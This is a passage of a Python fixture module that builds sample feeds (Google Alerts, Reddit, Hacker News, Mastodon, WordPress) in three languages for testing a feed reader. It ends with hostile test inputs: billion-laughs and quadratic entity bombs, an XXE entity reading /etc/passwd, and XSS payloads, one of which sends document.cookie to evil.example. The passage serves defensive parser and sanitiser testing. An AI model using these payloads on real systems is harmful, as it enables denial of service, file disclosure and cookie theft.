        for n in range(1, count + 1)
    ]


# -- preset shapes, in three languages
#
# Each text table has three entries per language: (title, text, url or handle, author).

_ALERTS: dict[Lang, list[tuple[str, str, str]]] = {
    "en": [
        (
            "<b>{b}</b> launches a community forum for beta testers",
            "The new forum lets <b>{b}</b> users report bugs and vote on features "
            "directly with the product team&nbsp;...",
            "https://www.techdaily.example.com/news/2024/05/orbito-community-forum"
            "?utm_source=google&utm_medium=alerts",
        ),
        (
            "Why the <b>{b}</b> outage angered small business owners",
            "For six hours on Tuesday, shops relying on <b>{b}</b> could not take "
            "bookings. Owners say the company&#39;s silence made it worse ...",
            "https://www.bizreport.example.co.uk/analysis/orbito-outage",
        ),
        (
            "Review: <b>{b}</b> 3.0 is faster, but the price went up",
            "We spent two weeks with <b>{b}</b> 3.0. The sync is noticeably quicker "
            "and the new inbox is a real improvement ...",
            "https://reviews.example.net/article.php?id=4821&ref=rss",
        ),
    ],
    "nl": [
        (
            "<b>{b}</b> opent nieuw kantoor in Utrecht",
            "Het bedrijf achter <b>{b}</b> verhuist naar het centrum van Utrecht en "
            "zoekt twintig nieuwe medewerkers ...",
            "https://www.nieuwsblad.example.nl/economie/orbito-opent-kantoor-utrecht~a4821/",
        ),
        (
            "Gebruikers delen ideeën voor de nieuwe <b>{b}</b>-app",
            "Op het forum van <b>{b}</b> verschenen honderden ideeën: van een "
            "donkere modus tot een café-kaart voor de reünie ...",
            "https://tweakers.example.nl/nieuws/219842/gebruikers-delen-ideeen-orbito.html"
            "?utm_campaign=rss&utm_source=alerts",
        ),
        (
            "Storing bij <b>{b}</b>: coördinator excuseert zich",
            "Na de storing van dinsdag biedt de coördinator van <b>{b}</b> "
            "gedupeerde klanten één maand gratis aan ...",
            "https://www.regionaal.example.nl/artikel?id=99812&bron=google",
        ),
    ],
    "ar": [
        (
            "<b>{b}</b> تطلق منتدى جديداً لمجتمع المستخدمين",
            "أعلنت شركة <b>{b}</b> عن منتدى يتيح للمستخدمين الإبلاغ عن الأخطاء "
            "واقتراح الميزات مباشرةً ...",
            "https://www.tech-arabia.example.com/news/orbito-forum",
        ),
        (
            "شكاوى من انقطاع خدمة <b>{b}</b> في الرياض والقاهرة",
            "اشتكى مستخدمو <b>{b}</b> من انقطاع الخدمة لساعات، وطالبوا الشركة بتوضيح الأسباب ...",
            "https://www.akhbar.example.net/اقتصاد/شكاوى-orbito",
        ),
        (
            "مراجعة: التَّطْبِيق الجديد من <b>{b}</b> أسرع لكن الأسعار ارتفعت",
            "جرّبنا الإصدار الثالث من <b>{b}</b> لمدة أسبوعين، والمزامنة أسرع بشكل ملحوظ ...",
            "https://reviews.example.ae/article?id=771&lang=ar",
        ),
    ],
}


def _google_link(real: str, n: int) -> str:
    usg = hashlib.sha1(real.encode()).hexdigest()[:20]
    return (
        "https://www.google.com/url?rct=j&sa=t&url="
        + quote(real, safe=":/~")
        + f"&ct=ga&cd=CAIyGjE4ZDQ3ZDc1ZWI0ZTY3ZjY6Y29tOmVuOlVT{n}&usg=AOvVaw{usg}"
    )


def google_alerts(lang: Lang = "en", brand: str = BRAND) -> bytes:
    """A Google Alerts Atom feed: entry links wrapped as
    ``https://www.google.com/url?rct=j&sa=t&url=REAL&ct=ga...`` (REAL percent-encoded,
    some with tracking parameters), titles and snippets with ``<b>brand</b>``."""
    feed_no = {
        "en": "11240337392488267316",
        "nl": "7702394413582391702",
        "ar": "3318492017745530113",
    }[lang]
    out = [
        '<?xml version="1.0" encoding="utf-8"?>'
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:idx="urn:atom-extension:indexing">'
        f"<id>tag:google.com,2005:reference/feed/06848252277518370652/{feed_no}</id>"
        f"<title>Google Alert - {escape(brand.lower())}</title>"
        '<link href="https://www.google.com/alerts/feeds/06848252277518370652/'
        f'{feed_no}" rel="self"></link>'
        f"<updated>{_iso(_BASE)}</updated>"
    ]
    for n, (title, text, real) in enumerate(_ALERTS[lang]):
        when = _BASE - timedelta(hours=3 * n, minutes=17 * n)
        entry_id = 1350000000000000000 + 7919 * n + {"en": 0, "nl": 1, "ar": 2}[lang]
        out.append(
            "<entry>"
            f"<id>tag:google.com,2013:googlealerts/feed:{entry_id}</id>"
            f'<title type="html">{escape(title.format(b=brand))}</title>'
            f'<link href="{_attr(_google_link(real, n))}"></link>'
            f"<published>{_iso(when)}</published><updated>{_iso(when)}</updated>"
            f'<content type="html">{escape(text.format(b=brand))}</content>'
            "<author><name></name></author>"
            "</entry>"
        )
    out.append("</feed>")
    return "".join(out).encode()


_REDDIT: dict[Lang, list[tuple[str, str, str, str]]] = {
    "en": [
        (
            "Anyone else's {b} app crashing since the update?",
            "Updated this morning and {b} dies the moment I open Messages. "
            "Pixel 7, Android 14. Reinstalled twice.",
            "Android",
            "pixel_pusher_77",
        ),
        (
            "{b} vs the alternatives for a 12-person team?",
            "We're outgrowing shared inboxes. Has anyone moved a small team to {b}? "
            "Mostly worried about the pricing after year one.",
            "smallbusiness",
            "ops_with_opinions",
        ),
        (
            "PSA: {b} support actually answered in 20 minutes",
            "Double-charged on the annual plan, opened a ticket, refund confirmed "
            "within the hour. Credit where it's due.",
            "selfhosted",
            "quiet-sysadmin",
        ),
    ],
    "nl": [
        (
            "Ervaringen met {b} voor een vereniging?",
            "Onze voetbalvereniging zoekt iets om de ledenmail te beheren. "
            "Iemand ervaring met {b}? Ideeën zijn welkom.",
            "thenetherlands",
            "kantinedienst",
        ),
        (
            "{b} storing vandaag?",
            "Sinds 09:00 laadt de app niet meer. Ook bij jullie, of ligt het aan mijn café-wifi?",
            "netherlands",
            "fietsenmaker_ut",
        ),
        (
            "Reünie georganiseerd met {b}, ging prima",
            "Vijfhonderd oud-leerlingen uitgenodigd, één dubbele mail. Prima tool.",
            "thenetherlands",
            "Sanne_vd_Berg",
        ),
    ],
    "ar": [
        (
            "هل جرّب أحدكم تطبيق {b}؟",
            "أبحث عن أداة لإدارة رسائل فريقنا الصغير، وسمعت عن {b}. ما رأيكم في الأسعار؟",
            "arabs",
            "abu_fahad",
        ),
        (
            "مشكلة في تسجيل الدخول إلى {b}",
            "منذ الصباح لا أستطيع تسجيل الدخول، وتظهر رسالة خطأ غريبة. هل من حل؟",
            "saudiarabia",
            "Riyadh_dev",
        ),
        (
            "تجربتي مع دعم {b} كانت رائــعة",
            "تواصلت مع الدعم الفني بخصوص الفاتورة وتم حل المشكلة خلال ساعة.",
            "Egypt",
            "nour_cairo",
        ),
    ],
}


def reddit_search(lang: Lang = "en", brand: str = BRAND, subreddit: str | None = None) -> bytes:
    """Reddit's ``search.rss?q=brand`` (or ``/r/SUB/.rss`` with ``subreddit``):
    Atom, despite the name, with ``t3_`` ids, ``/u/`` authors, escaped HTML
    content and media thumbnails."""
    q = quote(brand.lower())
    if subreddit is None:
        self_link = f"https://www.reddit.com/search.rss?q={q}"
        title, feed_id = f"reddit.com: search results - {brand.lower()}", f"/search.rss?q={q}"
    else:
        self_link = f"https://www.reddit.com/r/{subreddit}/.rss"
        title, feed_id = subreddit, f"/r/{subreddit}/.rss"
    out = [
        '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom" '
        'xmlns:media="http://search.yahoo.com/mrss/">'
        f"<updated>{_iso(_BASE)}</updated>"
        "<icon>https://www.redditstatic.com/icon.png/</icon>"
        f"<id>{escape(feed_id)}</id>"
        f'<link rel="self" href="{_attr(self_link)}" type="application/atom+xml" />'
        f'<link rel="alternate" href="{_attr(self_link.replace(".rss", ""))}" '
        'type="text/html" />'
        "<logo>https://www.redditstatic.com/reddit.com.header.png</logo>"
        f"<title>{escape(title)}</title>"
    ]
    for n, (post_title, text, sub, user) in enumerate(_REDDIT[lang]):
        sub = subreddit or sub
        post_id = f"1c{lang}{n}x{abs(_hash_int(post_title)) % 10000:04d}"
        slug = re.sub(r"[^a-z0-9]+", "_", post_title.format(b=brand).lower()).strip("_")[:40]
        link = f"https://www.reddit.com/r/{sub}/comments/{post_id}/{slug or 'post'}/"
        when = _BASE - timedelta(hours=n * 5 + 1)
        html = (
            '<!-- SC_OFF --><div class="md"><p>'
            + escape(text.format(b=brand))
            + "</p>\n</div><!-- SC_ON --> &#32; submitted by &#32; "
            f'<a href="https://www.reddit.com/user/{user}"> /u/{user} </a> '
            f'<br/> <span><a href="{link}">[link]</a></span> &#32; '
            f'<span><a href="{link}">[comments]</a></span>'
        )
        out.append(
            "<entry>"
            f"<author><name>/u/{escape(user)}</name>"
            f"<uri>https://www.reddit.com/user/{escape(user)}</uri></author>"
            f'<category term="{_attr(sub)}" label="r/{_attr(sub)}"/>'
            f'<content type="html">{escape(html)}</content>'
            f"<id>t3_{post_id}</id>"
            f'<media:thumbnail url="https://b.thumbs.redditmedia.com/{post_id}.jpg" />'
            f'<link href="{_attr(link)}" />'
            f"<updated>{_iso(when)}</updated><published>{_iso(when)}</published>"
            f"<title>{escape(post_title.format(b=brand))}</title>"
            "</entry>"
        )
    out.append("</feed>")
    return "".join(out).encode()


def _hash_int(text: str) -> int:
    """A stable small integer for ``text`` (``hash()`` is salted per process)."""
    return int(hashlib.sha256(text.encode()).hexdigest()[:8], 16)


_HN: dict[Lang, list[tuple[str, str | None, str]]] = {
    "en": [
        ("Show HN: I replaced our support inbox with {b} and a cron job", None, "jdoe"),
        (
            "{b} raises prices 40% for existing customers",
            "https://www.theregister.example.com/2024/05/01/orbito_pricing/",
            "tptacek_fan",
        ),
        ("Ask HN: Is anyone self-hosting an alternative to {b}?", None, "throwaway_9921"),
    ],
    "nl": [
        (
            "{b} krijgt boete van de Autoriteit Persoonsgegevens",
            "https://nos.example.nl/artikel/2519934-orbito-krijgt-boete",
            "dutchdev",
        ),
        ("Show HN: Een open-source koppeling tussen {b} en Nextcloud", None, "maartenb"),
        (
            "Waarom wij na drie jaar {b} vaarwel zeggen",
            "https://blog.example.nl/2024/05/vaarwel-orbito/",
            "ideeenbus",
        ),
    ],
    "ar": [
        (
            "{b} تدعم اللغة العربية بالكامل في الإصدار الجديد",
            "https://www.aitnews.example.com/2024/05/01/orbito-arabic/",
            "yousef_k",
        ),
        ("Ask HN: تجارب استخدام {b} في فرق عربية؟", None, "layla_m"),
        (
            "كيف بنت {b} محرك البحث الخاص بها",
            "https://engineering.example.com/ar/orbito-search",
            "omar_dev",
        ),
    ],
}


def hacker_news(lang: Lang = "en", brand: str = BRAND) -> bytes:
    """An hnrss.org-style RSS feed (``/newest?q=brand``): CDATA titles, a
    description listing Article/Comments URLs, points and comment count,
    ``<comments>`` links to the HN item, ``dc:creator``. Ask/Show HN items link
    to the discussion itself."""
    q = quote(brand.lower())
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:atom="http://www.w3.org/2005/Atom">\n<channel>\n'
        f'<title>Hacker News - Newest: "{escape(brand.lower())}"</title>\n'
        "<link>https://news.ycombinator.com/newest</link>\n"
        f"<description>Hacker News RSS</description>\n<docs>https://hnrss.org/</docs>\n"
        "<generator>hnrss v2.1.1</generator>\n"
        f"<lastBuildDate>{_rfc822(_BASE)}</lastBuildDate>\n"
        f'<atom:link href="https://hnrss.org/newest?q={q}" rel="self" '
        'type="application/rss+xml"></atom:link>\n'
    ]
    for n, (title, article, user) in enumerate(_HN[lang]):
        item_id = 40210000 + 1000 * {"en": 0, "nl": 1, "ar": 2}[lang] + 37 * n
        hn = f"https://news.ycombinator.com/item?id={item_id}"
        link = article or hn
        when = _BASE - timedelta(minutes=41 * n + 3)
        description = (
            f'\n<p>Article URL: <a href="{link}">{link}</a></p>\n'
            f'<p>Comments URL: <a href="{hn}">{hn}</a></p>\n'
            f"<p>Points: {3 + 7 * n}</p>\n<p># Comments: {n * 4}</p>\n"
        )
        out.append(
            "<item>\n"
            f"<title>{_cdata(title.format(b=brand))}</title>\n"
            f"<description>{_cdata(description)}</description>\n"
            f"<pubDate>{_rfc822(when)}</pubDate>\n"
            f"<link>{escape(link)}</link>\n"
            f"<dc:creator>{escape(user)}</dc:creator>\n"
            f"<comments>{escape(hn)}</comments>\n"
            f'<guid isPermaLink="false">{escape(hn)}</guid>\n'
            "</item>\n"
        )
    out.append("</channel>\n</rss>\n")
    return "".join(out).encode()


_MASTODON: dict[Lang, tuple[str, list[tuple[str, str]]]] = {
    "en": (
        "mastodon.social",
        [
            ("alice", "Just moved our whole book club to {tag}. The digest emails are lovely."),
            ("bob@fosstodon.org", "Dear {tag}, please bring back the old search. Kind regards."),
            ("carol", "Anyone from the {tag} team here? Export to CSV is broken again."),
        ],
    ),
    "nl": (
        "mastodon.nl",
        [
            ("sanne", "Onze reünie helemaal geregeld via {tag}. Eén mailtje, klaar!"),
            ("pieter@social.example.nl", "Storing bij {tag}? Alles hangt hier sinds 9 uur."),
            ("jeroen", "Leuke ideeën op het {tag} forum. De café-modus is geniaal."),
        ],
    ),
    "ar": (
        "mastodon.social",
        [
            ("nadia", "انتقلنا إلى {tag} لإدارة رسائل الجمعية، والتجربة ممتـــازة."),
            ("karim@masto.example.org", "هل يعاني أحد من بطء {tag} اليوم؟ الصفحة لا تُحمَّل."),
            ("salma", "شكراً لفريق {tag} على دعم الكتابة من اليمين إلى اليسار."),
        ],
    ),
}


def mastodon(lang: Lang = "en", brand: str = BRAND, kind: Literal["tag", "user"] = "tag") -> bytes:
    """A Mastodon RSS feed: ``/tags/brand.rss`` (``kind="tag"``, posts from
    several accounts, linked as ``https://host/@user/ID``) or ``/@user.rss``
    (``kind="user"``). Like Mastodon's own: items have no ``<title>``, the post
    is HTML in ``<description>``, hashtags as ``<category>``, media as
    ``media:content``."""
    host, posts = _MASTODON[lang]
    tag = brand.lower()
    if kind == "tag":
        channel_title, channel_link = f"#{tag}", f"https://{host}/tags/{tag}"
        description = f"Public posts tagged #{tag}"
    else:
        user = posts[0][0]
        channel_title = f"{user.capitalize()} (@{user}@{host})"
        channel_link = f"https://{host}/@{user}"
        description = f"Public posts from @{user}@{host}"
        posts = [(user, text) for _, text in posts]
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:webfeeds="http://webfeeds.org/rss/1.0" '
        'xmlns:media="http://search.yahoo.com/mrss/">\n<channel>\n'
        f"<title>{escape(channel_title)}</title>\n"
        f"<description>{escape(description)}</description>\n"
        f"<link>{escape(channel_link)}</link>\n"
        f"<lastBuildDate>{_rfc822(_BASE)}</lastBuildDate>\n"
        f"<webfeeds:icon>https://{host}/packs/media/icons/favicon.png</webfeeds:icon>\n"
        "<generator>Mastodon v4.2.8</generator>\n"
    ]
    for n, (account, text) in enumerate(posts):
        user, _, remote = account.partition("@")
        server = remote or host
        status_id = 112345678901234567 + 1000003 * n + {"en": 0, "nl": 11, "ar": 22}[lang]
        link = f"https://{server}/@{user}/{status_id}"
        hashtag = (
            f'<a href="https://{host}/tags/{tag}" class="mention hashtag" rel="tag">'
            f"#<span>{escape(brand)}</span></a>"
        )
        html = "<p>" + escape(text).replace("{tag}", hashtag) + "</p>"
        if n == 1:
            html += (
                f'<p><span class="h-card"><a href="https://{host}/@{tag}" '
                f'class="u-url mention">@<span>{tag}</span></a></span></p>'
            )
        when = _BASE - timedelta(minutes=13 * n + 2)
        out.append(
            "<item>\n"
            f'<guid isPermaLink="true">{escape(link)}</guid>\n'
            f"<link>{escape(link)}</link>\n"
            f"<pubDate>{_rfc822(when)}</pubDate>\n"
            f"<description>{escape(html)}</description>\n"
        )
        if n == 0:
            out.append(
                f'<media:content url="https://files.{host}/media/{status_id}.png" '
                'type="image/png" fileSize="48213" medium="image">'
                '<media:rating scheme="urn:simple">nonadult</media:rating>'
                '<media:description type="plain">A screenshot</media:description>'
                "</media:content>\n"
            )
        out.append(f"<category>{escape(tag)}</category>\n</item>\n")
    out.append("</channel>\n</rss>\n")
    return "".join(out).encode()


_WORDPRESS: dict[Lang, tuple[str, str, str, list[tuple[str, str, str, str]]]] = {
    # (blog title, blog URL, language, [(title, author, category, paragraph)])
    "en": (
        "Community Notes",
        "https://communitynotes.example.com",
        "en-US",
        [
            (
                "What we learned moving our forum to {b}",
                "Dana Whitfield",
                "Tools",
                "After six months on {b}, our moderators answer twice as fast. "
                "Here is what worked, what didn't, and what we'd do differently.",
            ),
            (
                "Five questions to ask before you pick a community platform",
                "Marcus Lee",
                "Guides",
                "Pricing tiers, data export, moderation tools: we compare {b} and "
                "three others on the things that matter after launch.",
            ),
            (
                "Our {b} integration is now open source",
                "Dana Whitfield",
                "News",
                "The plugin that syncs {b} threads with our help centre is on GitHub. "
                "Patches welcome!",
            ),
        ],
    ),
    "nl": (
        "Verenigingsblog",
        "https://blog.example.nl",
        "nl-NL",
        [
            (
                "Zo organiseerden we onze reünie met {b}",
                "Sanne de Vries",
                "Evenementen",
                "Vijfhonderd uitnodigingen, één dubbele mail en een gezellige avond in "
                "het café. Onze ervaringen met {b}.",
            ),
            (
                "Tien ideeën voor een actievere ledengroep",
                "Pieter Jansen",
                "Tips",
                "Van een maandelijkse nieuwsbrief tot een vragenuur met de coördinator: "
                "zo houden wij de groep levendig, met hulp van {b}.",
            ),
            (
                "Storing bij {b}: wat er misging",
                "Sanne de Vries",
                "Nieuws",
                "Dinsdag lag {b} zes uur plat. We zetten op een rij wat dat betekende "
                "voor onze vrijwilligers.",
            ),
        ],
    ),
    "ar": (
        "مدونة المجتمع",
        "https://mudawana.example.com",
        "ar",
        [
            (
                "كيف نقلنا منتدى الجمعية إلى {b}",
                "ليلى حسن",
                "أدوات",
                "بعد ستة أشهر من استخدام {b}، أصبح المشرفون يردّون على الأسئلة "
                "بسرعة مضاعفة. إليكم ما نجح وما لم ينجح.",
            ),
            (
                "خمسة أسئلة قبل اختيار منصة لمجتمعك",
                "أحمد إبراهيم",
                "أدلة",
                "الأسعار وتصدير البيانات وأدوات الإشراف: نقارن {b} بثلاث منصات "
                "أخرى في ما يهم بعد الإطلاق.",
            ),
            (
                "إطلاق إضافة {b} مفتوحة المصدر",
                "ليلى حسن",
                "أخبار",
                "أصبحت الإضافة التي تربط نقاشات {b} بمركز المساعدة متاحة للجميع. نرحّب بمساهماتكم!",
            ),
        ],
    ),
}


def wordpress(lang: Lang = "en", brand: str = BRAND) -> bytes:
    """A WordPress ``/feed/`` RSS 2.0: ``content:encoded`` in CDATA, ``dc:creator``,
    categories, ``?p=`` guids, ``wfw:commentRss`` and ``slash:comments``, an
    excerpt ending in ``[&#8230;]``."""
    blog_title, base, language, posts = _WORDPRESS[lang]
    out = [
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"\n'
        '\txmlns:content="http://purl.org/rss/1.0/modules/content/"\n'
        '\txmlns:wfw="http://wellformedweb.org/CommentAPI/"\n'
        '\txmlns:dc="http://purl.org/dc/elements/1.1/"\n'
        '\txmlns:atom="http://www.w3.org/2005/Atom"\n'
        '\txmlns:sy="http://purl.org/rss/1.0/modules/syndication/"\n'
        '\txmlns:slash="http://purl.org/rss/1.0/modules/slash/"\n\t>\n\n<channel>\n'
        f"\t<title>{escape(blog_title)}</title>\n"
        f'\t<atom:link href="{base}/feed/" rel="self" type="application/rss+xml" />\n'
        f"\t<link>{base}</link>\n"
        f"\t<description>{escape(blog_title)}</description>\n"
        f"\t<lastBuildDate>{_rfc822(_BASE)}</lastBuildDate>\n"
        f"\t<language>{language}</language>\n"
        "\t<sy:updatePeriod>\n\thourly\t</sy:updatePeriod>\n"
        "\t<sy:updateFrequency>\n\t1\t</sy:updateFrequency>\n"
        "\t<generator>https://wordpress.org/?v=6.5.2</generator>\n"
    ]
    for n, (title, author, category, paragraph) in enumerate(posts):
        when = _BASE - timedelta(days=n, hours=2)
        slug = f"post-{lang}-{n + 1}"
        link = f"{base}/{when:%Y/%m/%d}/{slug}/"
        text = paragraph.format(b=brand)
        direction = ' dir="rtl"' if lang == "ar" else ""
        content = (
            f"<p{direction}>{escape(text)}</p>\n"
            f'<p{direction}><a href="{base}/tag/{brand.lower()}/">{escape(brand)}</a> '
            f"&#8212; <em>{escape(category)}</em></p>\n"
            f'<figure class="wp-block-image"><img src="{base}/wp-content/uploads/'
            f'{when:%Y/%m}/{slug}.jpg" alt="" /></figure>\n'
        )
        excerpt = escape(text[:80]) + " [&#8230;]"
        out.append(
            "\t<item>\n"
            f"\t\t<title>{escape(title.format(b=brand))}</title>\n"
            f"\t\t<link>{link}</link>\n"
            f"\t\t<comments>{link}#respond</comments>\n"
            f"\t\t<dc:creator>{_cdata(author)}</dc:creator>\n"
            f"\t\t<pubDate>{_rfc822(when)}</pubDate>\n"
            f"\t\t<category>{_cdata(category)}</category>\n"
            f"\t\t<category>{_cdata(brand)}</category>\n"
            f'\t\t<guid isPermaLink="false">{base}/?p={1200 + 17 * n}</guid>\n'
            f"\t\t<description>{_cdata(excerpt)}</description>\n"
            f"\t\t<content:encoded>{_cdata(content)}</content:encoded>\n"
            f"\t\t<wfw:commentRss>{link}feed/</wfw:commentRss>\n"
            f"\t\t<slash:comments>{n}</slash:comments>\n"
            "\t</item>\n"
        )
    out.append("</channel>\n</rss>\n")
    return "".join(out).encode()


def preset_samples(brand: str = BRAND) -> dict[tuple[str, Lang], bytes]:
    """Every preset sample in every language, keyed by (preset name, language):
    presets ``google_alerts``, ``reddit``, ``hacker_news``, ``mastodon_tag``,
    ``mastodon_user``, ``wordpress``."""
    langs: tuple[Lang, ...] = ("en", "nl", "ar")
    samples: dict[tuple[str, Lang], bytes] = {}
    for lang in langs:
        samples["google_alerts", lang] = google_alerts(lang, brand)
        samples["reddit", lang] = reddit_search(lang, brand)
        samples["hacker_news", lang] = hacker_news(lang, brand)
        samples["mastodon_tag", lang] = mastodon(lang, brand, "tag")
        samples["mastodon_user", lang] = mastodon(lang, brand, "user")
        samples["wordpress", lang] = wordpress(lang, brand)
    return samples


# -- hostile documents


def billion_laughs(levels: int = 10) -> bytes:
    """The classic entity-expansion bomb: ``levels`` nested entities, each ten
    references to the one before (10 levels: 10^10 "lol"s, 30 GB expanded)."""
    decls = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        decls.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    top = f"&lol{levels - 1};"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [\n  '
        + "\n  ".join(decls)
        + "\n]>\n"
        '<rss version="2.0"><channel><title>Laughs</title>'
        "<link>https://laughs.example/</link><description>lol</description>"
        f"<item><title>{top}</title><description>{top}</description>"
        "<link>https://laughs.example/1</link><guid>laughs-1</guid></item>"
        "</channel></rss>\n"
    ).encode()


def quadratic_blowup(entity_size: int = 50_000, references: int = 10_000) -> bytes:
    """One large entity referenced many times (no nesting, so depth limits do not
    catch it): ``entity_size * references`` characters once expanded (500 MB by
    default) from a document of about 100 KB."""
    refs = "&big;" * references
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE rss [<!ENTITY big "{"x" * entity_size}">]>\n'
        '<rss version="2.0"><channel><title>Quadratic</title>'
        "<link>https://quadratic.example/</link><description>q</description>"
        f"<item><title>Blow-up</title><description>{refs}</description>"
        "<guid>quadratic-1</guid></item></channel></rss>\n"
    ).encode()


def external_entity(target: str = "file:///etc/passwd") -> bytes:
    """An XXE attempt: an external entity (``SYSTEM target``) used in the title and
    description of an otherwise normal item."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{target}">]>\n'
        '<rss version="2.0"><channel><title>Innocent feed</title>'
        "<link>https://xxe.example/</link><description>news</description>"
        "<item><title>Leak: &xxe;</title><description>&xxe;</description>"
        "<link>https://xxe.example/1</link><guid>xxe-1</guid></item>"
        "</channel></rss>\n"
    ).encode()


def invalid_xml() -> bytes:
    """Not well-formed: a bare ``&``, an unclosed and a mismatched tag, a stray
    ``<`` and truncation before the end."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
        b"<title>Broken & proud</title><link>https://broken.example/</link>"
        b"<item><title>First <b>bold</title><description>1 < 2</description>"
        b"<guid>broken-1</guid></item>"
        b"<item><title>Second</titel><guid>broken-2</guid>"
    )


def html_page() -> bytes:
    """An ordinary web page (what a site serves when the feed moved), not a feed."""
    return (
        b'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">'
        b"<title>Page not found - Example News</title>"
        b'<link rel="alternate" type="application/rss+xml" href="/feed/">'
        b'</head><body><header><nav><a href="/">Home</a></nav></header>'
        b"<main><h1>Sorry, that page is gone</h1>"
        b'<p>Try the <a href="/search?q=orbito">search</a>.</p></main>'
        b"<script>window.dataLayer=[];</script></body></html>\n"
    )


def wrong_charset() -> bytes:
    """An RSS feed declaring UTF-8 whose bytes are windows-1252 (``é``, ``ë``,
    curly quotes, ``€``): invalid UTF-8."""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
        "<title>Café Ideeën</title><link>https://cp1252.example/</link>"
        "<description>Déjà vu</description>"
        "<item><title>“Orbito” kost nu €5 per maand – reünie geannuleerd</title>"
        "<description>Ideeën voor het café? Zeg het ons’</description>"
        "<link>https://cp1252.example/1</link><guid>cp1252-1</guid></item>"
        "</channel></rss>\n"
    )
    return text.encode("windows-1252")


def script_injection() -> bytes:
    """A well-formed RSS feed whose items carry active content to be sanitised:
    ``<script>``, event handlers, ``javascript:`` links, an ``<iframe>``, and an
    Atom-style plain-text title holding markup."""
    items = [
        Item(
            title="<script>alert('title')</script>Orbito news",
            link="javascript:alert(document.cookie)",
            guid="xss-1",
            summary='<img src="x" onerror="alert(1)"><p>Orbito <b>rocks</b></p>',
            content_html=(
                '<p onclick="steal()">Hello</p><iframe src="https://evil.example/"></iframe>'
                "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                '<a href="javascript:void(0)" style="position:fixed">click</a>'
            ),
            published=_BASE,
        ),
        Item(
            title="Plain text with <tags> & ampersands",
            link="https://xss.example/2",
            guid="xss-2",
            summary="<svg onload=alert(2)>",
            published=_BASE - timedelta(hours=1),
        ),
    ]
    return rss2(items, title="Hostile markup", link="https://xss.example/")
